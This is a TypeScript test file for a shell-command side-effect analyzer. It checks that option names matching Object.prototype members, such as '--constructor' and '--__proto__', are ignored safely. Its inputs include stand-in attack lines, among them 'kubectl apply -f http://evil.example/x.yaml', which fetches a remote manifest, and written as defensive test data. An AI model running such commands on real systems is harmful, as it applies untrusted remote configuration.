// The side-effect tables (src/shell/programs/side-effects.ts) are looked up by
// option names the command line chooses: a name that Object.prototype holds is
// an option no table knows, with no effect, for a program with a table or rows
// per subcommand alike.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { optionEffects } from '../../src/shell/option-effects.js';

const words = (line: string) => line.split(' ').map((text) => ({ text }));

describe('an option named like an Object.prototype member has no side effect', () => {
  for (const line of ['kubectl get pods --constructor=evil.example', 'git diff --toString=evil.example', 'git log --hasOwnProperty=x', 'find . -valueOf=evil.example', 'helm template --__proto__=x']) {
    test(JSON.stringify(line), () => {
      const [program, ...args] = words(line);
      assert.deepEqual(optionEffects(program.text, args), { implied: [] });
    });
  }
});

test('a known option next to such a name keeps its effect', () => {
  const [program, ...args] = words('kubectl apply --constructor=x -f http://evil.example/x.yaml');
  assert.deepEqual(
    optionEffects(program.text, args).implied.map((t) => t.action),
    [{ type: 'network.request', destination: 'http://evil.example/x.yaml' }],
  );
});
